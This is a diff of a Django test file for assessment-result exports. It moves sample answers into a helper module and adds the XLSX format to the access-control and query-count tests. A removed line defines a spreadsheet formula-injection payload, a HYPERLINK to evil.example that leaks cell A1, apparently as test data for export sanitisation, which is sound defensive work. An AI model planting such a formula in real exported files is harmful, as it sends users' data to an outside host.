@@ -28,37 +28,12 @@ from results.presentation import present_result
 from results.result import result_for
 from results.selectors import result_bundle
 from tests.factories import RespondentFactory, make_answer
+from tests.results.export_sample import INJECTION, answer_the_sample
 
 pytestmark = pytest.mark.django_db
 
-# Answers by role, as option keys (see tests/fixtures/sample-framework.yaml); None: a comment only.
-ANSWERS = {
-    "leadership": {
-        "automation-deploy": "s4",
-        "automation-iac": "yes",
-        "experiments-tracking": "s4",
-        "experiments-reproduce": "s3",
-        "monitoring-drift": "s3",
-        "monitoring-latency": "s2",
-    },
-    "data_science": {
-        "automation-deploy": "s1",
-        "automation-iac": "no",
-        "experiments-tracking": "s2",
-        "experiments-reproduce": None,
-        "monitoring-drift": "dont_know",
-        "monitoring-latency": "na",
-    },
-    "operations": {
-        "automation-deploy": "s0",
-        "automation-iac": "no",
-        "experiments-tracking": "s0",
-        "experiments-reproduce": "s2",
-        "monitoring-drift": "s1",
-    },
-}
 IN_SCOPE_QUESTIONS = 6
-INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+EXPORTS = ["results:export_csv", "results:export_json", "results:export_xlsx"]
 COLUMNS = {name: index for index, name in enumerate(
     ["respondent", "role", "dimension_key", "dimension", "question_key", "question", "kind",
      "option_key", "option", "score", "na_reason", "comment"]
@@ -67,22 +42,7 @@ COLUMNS = {name: index for index, name in enumerate(
 
 @pytest.fixture
 def answered(assessment):
-    """Three submitted respondents of different roles, and one who has not submitted."""
-    names = {"leadership": "Lena Lead", "data_science": "Dora Data", "operations": "Otto Ops"}
-    for role, answers in ANSWERS.items():
-        respondent = RespondentFactory(
-            assessment=assessment, role=role, status="submitted", name=names[role]
-        )
-        for key, value in answers.items():
-            comment = ""
-            if role == "data_science" and key == "experiments-reproduce":
-                comment = "We never tried."
-            if role == "operations" and key == "automation-iac":
-                comment = INJECTION
-            make_answer(respondent, key, value, comment=comment)
-    late = RespondentFactory(assessment=assessment, role="data_engineering", status="in_progress")
-    make_answer(late, "automation-deploy", "s4")
-    return assessment
+    return answer_the_sample(assessment)
 
 
 @pytest.fixture
@@ -341,7 +301,7 @@ def test_json_of_an_assessment_without_answers_has_null_scores(assessment):
 # The command
 
 
-@pytest.mark.parametrize("export_format", ["csv", "json"])
+@pytest.mark.parametrize("export_format", ["csv", "json", "xlsx"])
 def test_command_writes_the_views_bytes(client, consultant, closed, tmp_path, export_format):
     client.force_login(consultant)
     response = client.get(url(f"results:export_{export_format}", closed))
@@ -411,13 +371,13 @@ def test_command_reports_an_unwritable_path(assessment, tmp_path):
 # Access and queries
 
 
-@pytest.mark.parametrize("name", ["results:export_csv", "results:export_json"])
+@pytest.mark.parametrize("name", EXPORTS)
 def test_exports_are_refused_to_unassigned_consultants(client, other_consultant, answered, name):
     client.force_login(other_consultant)
     assert client.get(url(name, answered)).status_code == 404
 
 
-@pytest.mark.parametrize("name", ["results:export_csv", "results:export_json"])
+@pytest.mark.parametrize("name", EXPORTS)
 def test_exports_are_refused_to_client_contacts_even_once_published(
     client, client_contact, closed, name
 ):
@@ -426,7 +386,7 @@ def test_exports_are_refused_to_client_contacts_even_once_published(
     assert client.get(url(name, closed)).status_code == 404
 
 
-@pytest.mark.parametrize("name", ["results:export_csv", "results:export_json"])
+@pytest.mark.parametrize("name", EXPORTS)
 def test_exports_of_other_organisations_are_not_found(
     client, consultant, outsider_assessment, name
 ):
@@ -434,14 +394,14 @@ def test_exports_of_other_organisations_are_not_found(
     assert client.get(url(name, outsider_assessment)).status_code == 404
 
 
-@pytest.mark.parametrize("name", ["results:export_csv", "results:export_json"])
+@pytest.mark.parametrize("name", EXPORTS)
 def test_exports_send_anonymous_visitors_to_log_in(client, answered, name):
     response = client.get(url(name, answered))
     assert response.status_code == 302
     assert response["Location"].startswith(reverse("login"))
 
 
-@pytest.mark.parametrize("name", ["results:export_csv", "results:export_json"])
+@pytest.mark.parametrize("name", EXPORTS)
 def test_exports_refuse_posts(client, consultant, answered, name):
     client.force_login(consultant)
     assert client.post(url(name, answered)).status_code == 405
@@ -452,15 +412,15 @@ def test_exports_refuse_posts(client, consultant, answered, name):
 # 7 scoping questions, 8 stages, 9 dimensions with pillars, 10 questions, 11 options, 12 notes,
 # 13 curated recommendations; 14 the audit event's insert. Scoring, the presentation and the
 # CSV's rows read the bundle only.
-LIVE_QUERIES = {"results:export_json": 14, "results:export_csv": 14}
+LIVE_QUERIES = {"results:export_json": 14, "results:export_csv": 14, "results:export_xlsx": 14}
 # Once closed, the latest snapshot takes the place of the respondents (it lists who it
 # counted), and nothing is scored. Closing read the framework's content, which the process
 # keeps (a published framework never changes): 7 scoping questions, 8 stages, 9 to 11 the
 # dimensions, questions and options are not read again, so 8 queries, and the audit event's.
-SNAPSHOT_QUERIES = {"results:export_json": 9, "results:export_csv": 9}
+SNAPSHOT_QUERIES = {"results:export_json": 9, "results:export_csv": 9, "results:export_xlsx": 9}
 
 
-@pytest.mark.parametrize("name", ["results:export_csv", "results:export_json"])
+@pytest.mark.parametrize("name", EXPORTS)
 @pytest.mark.parametrize("extra_respondents", [0, 6])
 def test_export_queries_are_fixed(
     client, consultant, answered, django_assert_num_queries, name, extra_respondents
@@ -474,7 +434,7 @@ def test_export_queries_are_fixed(
     assert response.status_code == 200
 
 
-@pytest.mark.parametrize("name", ["results:export_csv", "results:export_json"])
+@pytest.mark.parametrize("name", EXPORTS)
 def test_export_queries_of_a_closed_assessment(
     client, consultant, closed, django_assert_num_queries, name
 ):
